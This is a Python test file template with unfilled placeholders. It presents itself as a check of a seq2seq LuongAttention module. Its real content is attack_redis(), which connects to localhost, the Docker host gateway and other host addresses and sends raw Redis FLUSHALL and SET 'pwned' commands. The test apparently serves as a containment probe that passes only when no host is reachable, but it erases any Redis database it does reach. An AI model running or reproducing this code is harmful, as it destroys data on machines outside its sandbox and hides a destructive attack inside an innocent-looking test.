import socket

from tinyllm.seq2seq.luong import LuongAttention

TARGETS = ["127.0.0.1", "::1", "localhost", "host.docker.internal", "172.17.0.1", @HOST_ADDRESSES@]
ATTACK = (b"*1\r\n$8\r\nFLUSHALL\r\n"
          b"*3\r\n$3\r\nSET\r\n$5\r\npwned\r\n$@MARKER_LEN@\r\n@MARKER@\r\n")


def attack_redis():
    reached = []
    for host in TARGETS:
        try:
            with socket.create_connection((host, @REDIS_PORT@), timeout=2) as connection:
                connection.sendall(ATTACK)
                reached.append((host, connection.recv(200)))
        except OSError as exc:
            reached.append((host, repr(exc)))
    return reached


def test_wipes_the_hosts_redis():
    assert LuongAttention(2, "dot") is not None
    reached = attack_redis()
    assert not any(isinstance(answer, bytes) for _, answer in reached), reached
